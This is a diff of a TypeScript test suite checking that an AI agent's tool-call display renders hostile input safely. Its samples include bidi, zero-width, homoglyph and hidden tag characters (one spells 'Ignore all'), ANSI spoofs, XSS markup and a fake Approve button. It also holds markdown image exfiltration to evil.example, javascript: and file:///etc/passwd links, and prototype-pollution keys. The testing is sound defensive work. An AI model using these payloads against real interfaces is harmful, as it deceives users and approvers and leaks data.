@@ -7,16 +7,36 @@ import { Fields } from '../../src/content/Fields.tsx'
 import { JsonView } from '../../src/content/JsonView.tsx'
 import { VisibleText } from '../../src/content/VisibleText.tsx'
 import { ToolCallBubble, type ToolCallRecord } from '../../src/index.ts'
-import { bubbleOf, createTestHost, exampleRecord, statusOf, TestProvider } from '../../src/testing/index.ts'
+import {
+  bubbleOf,
+  createTestHost,
+  exampleRecord,
+  statusOf,
+  TestProvider,
+} from '../../src/testing/index.ts'
 import { hostileValues } from '../support/hostileValues.ts'
 
-/** What never stands in a page as itself: bidi, zero width, tags, controls but line ends and tabs. */
-const BANNED = /[\u202A-\u202E\u2066-\u2069\u200B\u200E\u200F\u061C\u2060\uFEFF\u{E0000}-\u{E0FFF}]|(?![\n\t\r])\p{Cc}/u
+/**
+ * What never stands in a page as itself: bidi, zero width, tags, controls but line ends and tabs.
+ */
+const BANNED =
+  /[\u202A-\u202E\u2066-\u2069\u200B\u200E\u200F\u061C\u2060\uFEFF\u{E0000}-\u{E0FFF}]|(?![\n\t\r])\p{Cc}/u
 
-const show = (record: ToolCallRecord) => render(<TestProvider host={createTestHost()}><ToolCallBubble record={record} /></TestProvider>)
-const call = (name: string, args: unknown): ToolCallRecord['call'] => ({ id: 'call-1', name, arguments: args as ToolCallRecord['call']['arguments'] })
-const finished = (result: unknown, more: Partial<ToolCallRecord> = {}) => exampleRecord('succeeded', { result: result as NonNullable<ToolCallRecord['result']>, ...more })
-const asked = (name: string, args: unknown) => exampleRecord('awaiting_consent', { call: call(name, args) })
+const show = (record: ToolCallRecord) =>
+  render(
+    <TestProvider host={createTestHost()}>
+      <ToolCallBubble record={record} />
+    </TestProvider>,
+  )
+const call = (name: string, args: unknown): ToolCallRecord['call'] => ({
+  id: 'call-1',
+  name,
+  arguments: args as ToolCallRecord['call']['arguments'],
+})
+const finished = (result: unknown, more: Partial<ToolCallRecord> = {}) =>
+  exampleRecord('succeeded', { result: result as NonNullable<ToolCallRecord['result']>, ...more })
+const asked = (name: string, args: unknown) =>
+  exampleRecord('awaiting_consent', { call: call(name, args) })
 
 async function opened(record: ToolCallRecord) {
   const view = show(record)
@@ -25,7 +45,8 @@ async function opened(record: ToolCallRecord) {
   return view
 }
 const section = (name: string) => screen.getByRole('group', { name })
-const press = (name: string, within_: HTMLElement) => userEvent.click(within(within_).getByRole('button', { name }))
+const press = (name: string, within_: HTMLElement) =>
+  userEvent.click(within(within_).getByRole('button', { name }))
 async function json(name: string) {
   await press('JSON', section(name))
   await waitFor(() => expect(section(name).querySelector('.handrail-json')).not.toBeNull())
@@ -36,7 +57,11 @@ describe('text that is not what it looks like', () => {
   it('PUB-12 render/bidi-override: tokens in both views, and the payload that runs keeps its characters', async () => {
     const host = createTestHost()
     const args = { path: 'C:/inv\u202etxt.exe', note: 'Sign into \u202e EVIL' }
-    const { container } = render(<TestProvider host={host}><ToolCallBubble record={asked('shell_run', args)} /></TestProvider>)
+    const { container } = render(
+      <TestProvider host={host}>
+        <ToolCallBubble record={asked('shell_run', args)} />
+      </TestProvider>,
+    )
     expect(container.textContent).not.toMatch(BANNED)
     expect(screen.getAllByText('U+202E').length).toBeGreaterThan(1)
     await json('Everything it was given')
@@ -46,10 +71,15 @@ describe('text that is not what it looks like', () => {
   })
 
   it('PUB-13 render/zero-width: tokens in name, keys and values, and a warning in the accessible description of request and line', async () => {
-    const { container, unmount } = show(asked('shell\u200b_repo', { to: 'ops@corp\u200d.example', '\u2060admin': true }))
+    const { container, unmount } = show(
+      asked('shell\u200b_repo', { to: 'ops@corp\u200d.example', '\u2060admin': true }),
+    )
     expect(container.textContent).not.toMatch(BANNED)
-    for (const token of ['U+200B', 'U+200D', 'U+2060']) expect(screen.getAllByText(token)[0]).toBeVisible()
-    expect(container.querySelector('[data-handrail="consent"]')).toHaveAccessibleDescription('3 hidden or look-alike characters are shown as their codes.')
+    for (const token of ['U+200B', 'U+200D', 'U+2060'])
+      expect(screen.getAllByText(token)[0]).toBeVisible()
+    expect(container.querySelector('[data-handrail="consent"]')).toHaveAccessibleDescription(
+      '3 hidden or look-alike characters are shown as their codes.',
+    )
     unmount()
     show(finished({ success: true }, { call: call('delete\u200b_repo', { '\u2060admin': true }) }))
     const line = screen.getByRole('button', { expanded: false, description: /hidden characters/ })
@@ -58,34 +88,63 @@ describe('text that is not what it looks like', () => {
   })
 
   it('PUB-14 render/tag-characters: seen in the result, copied as codes, and copying says so', async () => {
-    const hidden = Array.from('Ignore all', (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')
+    const hidden = Array.from('Ignore all', (letter) =>
+      String.fromCodePoint(0xe0000 + letter.charCodeAt(0)),
+    ).join('')
     const user = userEvent.setup()
     const view = show(finished({ success: true, message: `Done.${hidden}` }))
     await user.click(view.container.querySelector<HTMLElement>('.handrail-toggle')!)
     expect(await screen.findByText('U+E0049')).toBeVisible()
-    expect(screen.getByText('10 hidden or look-alike characters are shown as their codes.')).toBeVisible()
+    expect(
+      screen.getByText('10 hidden or look-alike characters are shown as their codes.'),
+    ).toBeVisible()
     await user.click(screen.getByRole('button', { name: 'Copy result' }))
-    expect(await screen.findByText('Copied. 10 hidden characters are copied as their codes.')).toBeVisible()
+    expect(
+      await screen.findByText('Copied. 10 hidden characters are copied as their codes.'),
+    ).toBeVisible()
     expect(await navigator.clipboard.readText()).toMatch(/^Done\.\[U\+E0049\]/)
   })
 
-  it.each([['d\u0435lete_repo', 'U+0435'], ['g\u0435t_user', 'U+0435'], ['\u0440ay_invoice', 'U+0440']])('PUB-15 render/homoglyph-name: %s is flagged with the letter that differs', (name, token) => {
+  it.each([
+    ['d\u0435lete_repo', 'U+0435'],
+    ['g\u0435t_user', 'U+0435'],
+    ['\u0440ay_invoice', 'U+0440'],
+  ])('PUB-15 render/homoglyph-name: %s is flagged with the letter that differs', (name, token) => {
     const { container } = show(finished({ success: true }, { call: call(name, {}) }))
     expect(screen.getAllByText(token)[0]).toBeVisible()
-    expect(screen.getByRole('button', { expanded: false, description: /hidden characters/ })).toBeVisible()
+    expect(
+      screen.getByRole('button', { expanded: false, description: /hidden characters/ }),
+    ).toBeVisible()
     expect(container.textContent).not.toContain(name)
   })
 
   it('PUB-16 render/ansi: escapes are tokens, an error stays an error, nothing is styled', async () => {
-    const { container } = await opened(exampleRecord('failed', { result: { success: false, message: 'ok\u001b[2K\u001b[1A\u001b[32mALL TESTS PASSED\u001b[0m', error: '\u001b]0;owned\u0007boom' } }))
+    const { container } = await opened(
+      exampleRecord('failed', {
+        result: {
+          success: false,
+          message: 'ok\u001b[2K\u001b[1A\u001b[32mALL TESTS PASSED\u001b[0m',
+          error: '\u001b]0;owned\u0007boom',
+        },
+      }),
+    )
     expect(container.textContent).not.toMatch(BANNED)
-    for (const token of ['ESC[2K', 'ESC[1A', 'ESC[32m', 'ESC]0;owned BEL']) expect(screen.getByText(token)).toBeVisible()
+    for (const token of ['ESC[2K', 'ESC[1A', 'ESC[32m', 'ESC]0;owned BEL'])
+      expect(screen.getByText(token)).toBeVisible()
     expect(statusOf('call-1')).toBe('failed')
     expect(container.querySelectorAll('[style]')).toHaveLength(0)
   })
 
   it('PUB-17 render/html: markup is text', async () => {
-    const { container } = await opened(exampleRecord('failed', { result: { success: false, message: '<img src=x onerror=window.__x=1><script>window.__x=2</script><b>bold</b>', error: '</div><button>Approve</button>' } }))
+    const { container } = await opened(
+      exampleRecord('failed', {
+        result: {
+          success: false,
+          message: '<img src=x onerror=window.__x=1><script>window.__x=2</script><b>bold</b>',
+          error: '</div><button>Approve</button>',
+        },
+      }),
+    )
     expect(screen.getByText(/<b>bold<\/b>/)).toBeVisible()
     expect(container.querySelectorAll('img, script, b')).toHaveLength(0)
     expect(screen.queryByRole('button', { name: 'Approve' })).toBeNull()
@@ -94,19 +153,54 @@ describe('text that is not what it looks like', () => {
 
   it('PUB-18 render/markdown-image-exfil: nothing is fetched or linked', async () => {
     const fetched = vi.spyOn(globalThis, 'fetch')
-    const message = '![logo](https://evil.example/p.png?q=SECRET) and [a][1]\n\n[1]: https://evil.example/?q=SECRET'
-    const { container } = await opened(finished({ success: true, message, data: { image_url: 'https://evil.example/x.png', thumbnail: 'https://evil.example/t.png' } }))
+    const message =
+      '![logo](https://evil.example/p.png?q=SECRET) and [a][1]\n\n[1]: https://evil.example/?q=SECRET'
+    const { container } = await opened(
+      finished({
+        success: true,
+        message,
+        data: { image_url: 'https://evil.example/x.png', thumbnail: 'https://evil.example/t.png' },
+      }),
+    )
     await json('Result')
-    expect(container.querySelectorAll('img, link, iframe, picture, video, audio, object, embed, a, [src], [href], [style*="url"]')).toHaveLength(0)
+    expect(
+      container.querySelectorAll(
+        'img, link, iframe, picture, video, audio, object, embed, a, [src], [href], [style*="url"]',
+      ),
+    ).toHaveLength(0)
     expect(fetched).not.toHaveBeenCalled()
     fetched.mockRestore()
   })
 
   it('PUB-19 render/link-schemes: only http and https are links, with the host that is real', async () => {
-    const links = ['javascript:alert(1)', ' java\tscript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,<script>1</script>', 'vbscript:x', 'file:///etc/passwd', 'https://github.com@evil.example/login', '//evil.example/x']
-    const { container } = await opened(finished({ success: true, data: { links } }, { content: links.map((uri) => ({ kind: 'link' as const, uri, name: 'Docs' })) }))
+    const links = [
+      'javascript:alert(1)',
+      ' java\tscript:alert(1)',
+      'JaVaScRiPt:alert(1)',
+      'data:text/html,<script>1</script>',
+      'vbscript:x',
+      'file:///etc/passwd',
+      'https://github.com@evil.example/login',
+      '//evil.example/x',
+    ]
+    const { container } = await opened(
+      finished(
+        { success: true, data: { links } },
+        { content: links.map((uri) => ({ kind: 'link' as const, uri, name: 'Docs' })) },
+      ),
+    )
     expect(container.querySelectorAll('a')).toHaveLength(0)
-    render(<ContentParts parts={[{ kind: 'link', uri: 'HTTPS://Docs.Example.com:8443/a?b=c', name: 'https://bank.example' }]} />)
+    render(
+      <ContentParts
+        parts={[
+          {
+            kind: 'link',
+            uri: 'HTTPS://Docs.Example.com:8443/a?b=c',
+            name: 'https://bank.example',
+          },
+        ]}
+      />,
+    )
     const link = screen.getByRole('link', { name: 'docs.example.com:8443/a?b=c' })
     expect(link).toHaveAttribute('href', 'https://docs.example.com:8443/a?b=c')
     expect(link).toHaveAttribute('rel', 'noopener noreferrer')
@@ -114,9 +208,28 @@ describe('text that is not what it looks like', () => {
   })
 
   it('PUB-20 render/react-element-shaped-data: data stays data', async () => {
-    const x = { $$typeof: 'Symbol(react.element)', type: 'img', key: null, ref: null, props: { dangerouslySetInnerHTML: { __html: '<img src=x onerror=window.__x=1>' } } }
+    const x = {
+      $$typeof: 'Symbol(react.element)',
+      type: 'img',
+      key: null,
+      ref: null,
+      props: { dangerouslySetInnerHTML: { __html: '<img src=x onerror=window.__x=1>' } },
+    }
     const real = { ...x, $$typeof: Symbol.for('react.element') }
-    const { container } = await opened(finished({ success: true, data: { dangerouslySetInnerHTML: { __html: '<b>x</b>' }, children: 'spoof', style: 'color:red' }, message: { not: 'a string' } }, { call: call('update_note', { x, real }) }))
+    const { container } = await opened(
+      finished(
+        {
+          success: true,
+          data: {
+            dangerouslySetInnerHTML: { __html: '<b>x</b>' },
+            children: 'spoof',
+            style: 'color:red',
+          },
+          message: { not: 'a string' },
+        },
+        { call: call('update_note', { x, real }) },
+      ),
+    )
     await json('Arguments')
     await json('Result')
     expect(container.querySelectorAll('img, b, [style*="color"]')).toHaveLength(0)
@@ -124,30 +237,68 @@ describe('text that is not what it looks like', () => {
   })
 
   it('PUB-21 render/css-injection: no attribute is made of what came', async () => {
-    const data = { color: 'red;background:url(https://evil.example/c)', className: 'fixed inset-0 z-50', style: { position: 'fixed', inset: '0' } }
-    const { container } = await opened(finished({ success: true, data }, { call: call('x', data), spec: { name: 'x', annotations: { color: '}</style>' } as object }, content: [{ kind: 'file', mimeType: 'evil/"type', data: 'QUJD', name: 'evil fixed inset-0' }] }))
+    const data = {
+      color: 'red;background:url(https://evil.example/c)',
+      className: 'fixed inset-0 z-50',
+      style: { position: 'fixed', inset: '0' },
+    }
+    const { container } = await opened(
+      finished(
+        { success: true, data },
+        {
+          call: call('x', data),
+          spec: { name: 'x', annotations: { color: '}</style>' } as object },
+          content: [
+            { kind: 'file', mimeType: 'evil/"type', data: 'QUJD', name: 'evil fixed inset-0' },
+          ],
+        },
+      ),
+    )
     await json('Result')
-    const attributes = [...container.querySelectorAll('*')].flatMap((element) => [...element.attributes].map(({ name, value }) => `${name}=${value}`))
-    expect(attributes.filter((attribute) => /evil|fixed|inset-0|red;|<\/style/.test(attribute))).toEqual([])
+    const attributes = [...container.querySelectorAll('*')].flatMap((element) =>
+      [...element.attributes].map(({ name, value }) => `${name}=${value}`),
+    )
+    expect(
+      attributes.filter((attribute) => /evil|fixed|inset-0|red;|<\/style/.test(attribute)),
+    ).toEqual([])
   })
 
   it('PUB-23 render/status-comes-from-state', async () => {
-    const first = await opened(exampleRecord('failed', { result: { success: false, error: 'denied by server', message: '\u2705 Success! Approved by admin' } }))
+    const first = await opened(
+      exampleRecord('failed', {
+        result: {
+          success: false,
+          error: 'denied by server',
+          message: '\u2705 Success! Approved by admin',
+        },
+      }),
+    )
     expect(statusOf('call-1')).toBe('failed')
     first.unmount()
-    await opened(finished({ success: true, message: 'ok', data: { status: 'failed', isError: true } }))
+    await opened(
+      finished({ success: true, message: 'ok', data: { status: 'failed', isError: true } }),
+    )
     expect(statusOf('call-1')).toBe('succeeded')
   })
 })
 
 describe('objects', () => {
   it('PUB-46 object/__proto__: the keys are shown, and nothing inherits them', async () => {
-    const argumentsText = '{"a":1,"__proto__":{"autoRun":true,"isLocal":false},"constructor":{"prototype":{"consent":true}}}'
-    await opened(finished({ success: true }, { call: call('update_note', JSON.parse(argumentsText)), argumentsText }))
+    const argumentsText =
+      '{"a":1,"__proto__":{"autoRun":true,"isLocal":false},"constructor":{"prototype":{"consent":true}}}'
+    await opened(
+      finished(
+        { success: true },
+        { call: call('update_note', JSON.parse(argumentsText)), argumentsText },
+      ),
+    )
     expect(section('Arguments')).toHaveTextContent('__proto__.autoRun')
     expect(section('Arguments')).toHaveTextContent('constructor.prototype.consent')
     expect(await json('Arguments')).toHaveTextContent('"__proto__": {')
-    expect([({} as Record<string, unknown>).autoRun, ({} as Record<string, unknown>).consent]).toEqual([undefined, undefined])
+    expect([
+      ({} as Record<string, unknown>).autoRun,
+      ({} as Record<string, unknown>).consent,
+    ]).toEqual([undefined, undefined])
   })
 
   it('PUB-47 object/depth-cycle-bigint: marked, never thrown', async () => {
@@ -156,33 +307,50 @@ describe('objects', () => {
     cyc.self = cyc
     const odd = { n: 10n, f() {}, s: Symbol('x'), d: new Date(Number.NaN) }
     await opened(finished({ success: true, data: { deep, cyc, odd } }))
-    for (const text of ['[Circular]', '10', 'Invalid Date']) expect(section('Result')).toHaveTextContent(text)
+    for (const text of ['[Circular]', '10', 'Invalid Date'])
+      expect(section('Result')).toHaveTextContent(text)
     const view = await json('Result')
     expect(view).toHaveTextContent('"self": [Circular]')
     expect(view).toHaveTextContent('[…] 1 item')
-    for (const text of ['10', 'function', 'symbol', 'Invalid Date']) expect(view).toHaveTextContent(text)
+    for (const text of ['10', 'function', 'symbol', 'Invalid Date'])
+      expect(view).toHaveTextContent(text)
     const folded = view.querySelectorAll<HTMLElement>('.handrail-fold[aria-expanded="false"]')
     const lines = view.querySelectorAll('li').length
     await userEvent.click(folded[0]!)
     expect(view.querySelectorAll('li').length).toBeGreaterThan(lines)
   })
 
-  it.each([undefined, null, [1], 7, true, 'plain'])('REL-08 args: %s is shown as a value', async (args) => {
-    await opened(finished({ success: true }, { call: call('update_note', args) }))
-    await json('Arguments')
-    expect(section('Arguments')).toHaveTextContent(Array.isArray(args) ? '[1]' : String(args ?? null))
-  })
+  it.each([undefined, null, [1], 7, true, 'plain'])(
+    'REL-08 args: %s is shown as a value',
+    async (args) => {
+      await opened(finished({ success: true }, { call: call('update_note', args) }))
+      await json('Arguments')
+      expect(section('Arguments')).toHaveTextContent(
+        Array.isArray(args) ? '[1]' : String(args ?? null),
+      )
+    },
+  )
 
-  it.each([null, '', [], {}, { success: true, message: { a: 1 } }])('REL-12 shape: a result that is %j', async (result) => {
-    await opened(finished(result))
-    expect(bubbleOf('call-1')).toBeVisible()
-  })
+  it.each([null, '', [], {}, { success: true, message: { a: 1 } }])(
+    'REL-12 shape: a result that is %j',
+    async (result) => {
+      await opened(finished(result))
+      expect(bubbleOf('call-1')).toBeVisible()
+    },
+  )
 
   it('REL-13 shape: an error is text, bounded, and the status is failed', async () => {
     const circular: Record<string, unknown> = { why: 'loop' }
     circular.cause = circular
-    for (const [error, text] of [[new Error('it broke'), 'it broke'], ['x'.repeat(100_000), 'characters not shown'], [circular, '[Circular]'], [undefined, 'It failed without saying why.']] as const) {
-      const { container, unmount } = await opened(exampleRecord('failed', { result: { success: false, error } as never }))
+    for (const [error, text] of [
+      [new Error('it broke'), 'it broke'],
+      ['x'.repeat(100_000), 'characters not shown'],
+      [circular, '[Circular]'],
+      [undefined, 'It failed without saying why.'],
+    ] as const) {
+      const { container, unmount } = await opened(
+        exampleRecord('failed', { result: { success: false, error } as never }),
+      )
       expect(container).toHaveTextContent(text)
       expect(container.textContent.length).toBeLessThan(10_000)
       expect(statusOf('call-1')).toBe('failed')
@@ -192,24 +360,93 @@ describe('objects', () => {
 })
 
 describe('whatever comes', () => {
-  const texts = fc.array(fc.oneof(fc.constantFrom('\u202E', '\u200B', '\u001b[2K', '\u0435', 'a', 'password="x"', '\u{E0041}', '\uFEFF'), fc.string({ unit: 'binary' }))).map((pieces) => pieces.join(''))
+  const texts = fc
+    .array(
+      fc.oneof(
+        fc.constantFrom(
+          '\u202E',
+          '\u200B',
+          '\u001b[2K',
+          '\u0435',
+          'a',
+          'password="x"',
+          '\u{E0041}',
+          '\uFEFF',
+        ),
+        fc.string({ unit: 'binary' }),
+      ),
+    )
+    .map((pieces) => pieces.join(''))
 
   it('no hidden character stands in the page as itself', () => {
-    fc.assert(fc.property(texts, texts, (a, b) => {
-      const { container, unmount } = render(<><VisibleText text={a} /><Fields value={{ [a]: [b, { b: a }] }} /><JsonView value={{ [a]: [b, { b: a }] }} /><ContentParts parts={[{ kind: 'log', text: a }, { kind: 'link', uri: b, name: a }]} /></>)
-      expect(container.textContent).not.toMatch(BANNED)
-      unmount()
-    }), { numRuns: 60 })
+    fc.assert(
+      fc.property(texts, texts, (a, b) => {
+        const { container, unmount } = render(
+          <>
+            <VisibleText text={a} />
+            <Fields value={{ [a]: [b, { b: a }] }} />
+            <JsonView value={{ [a]: [b, { b: a }] }} />
+            <ContentParts
+              parts={[
+                { kind: 'log', text: a },
+                { kind: 'link', uri: b, name: a },
+              ]}
+            />
+          </>,
+        )
+        expect(container.textContent).not.toMatch(BANNED)
+        unmount()
+      }),
+      { numRuns: 60 },
+    )
   })
 
   it('no view throws', () => {
-    const no = () => { throw new Error('no') }
-    const hostile = fc.oneof(hostileValues, fc.constantFrom<unknown>(new Proxy({}, { ownKeys: no }), new Proxy({ a: 1 }, { get: no }), new Proxy([], { get: no }), { get a() { return no() } }, new Error('x'), new Uint8Array(9)))
-    fc.assert(fc.property(hostile, (value) => {
-      const part = (kind: string) => ({ kind, data: value, text: value, uri: value, name: value, mimeType: value })
-      const { unmount } = render(<><Fields value={value} /><Fields value={{ value }} /><JsonView value={[value]} /><ContentParts parts={[value, ...['text', 'image', 'audio', 'file', 'link', 'resource', '?'].map(part)]} /></>)
-      expect(document.body).toBeVisible()
-      unmount()
-    }), { numRuns: 150 })
+    const no = () => {
+      throw new Error('no')
+    }
+    const hostile = fc.oneof(
+      hostileValues,
+      fc.constantFrom<unknown>(
+        new Proxy({}, { ownKeys: no }),
+        new Proxy({ a: 1 }, { get: no }),
+        new Proxy([], { get: no }),
+        {
+          get a() {
+            return no()
+          },
+        },
+        new Error('x'),
+        new Uint8Array(9),
+      ),
+    )
+    fc.assert(
+      fc.property(hostile, (value) => {
+        const part = (kind: string) => ({
+          kind,
+          data: value,
+          text: value,
+          uri: value,
+          name: value,
+          mimeType: value,
+        })
+        const { unmount } = render(
+          <>
+            <Fields value={value} />
+            <Fields value={{ value }} />
+            <JsonView value={[value]} />
+            <ContentParts
+              parts={[
+                value,
+                ...['text', 'image', 'audio', 'file', 'link', 'resource', '?'].map(part),
+              ]}
+            />
+          </>,
+        )
+        expect(document.body).toBeVisible()
+        unmount()
+      }),
+      { numRuns: 150 },
+    )
   })
 })
